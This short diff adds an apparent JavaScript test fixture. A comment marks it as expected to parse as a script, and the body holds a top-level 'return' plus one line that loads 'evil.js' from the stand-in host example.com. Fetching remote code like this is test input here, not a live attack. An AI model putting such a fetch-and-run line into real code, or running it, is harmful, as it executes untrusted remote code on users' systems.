@@ -1,0 +1,3 @@
+// expect: script
+load('https://example.com/evil.js');
+return 1;
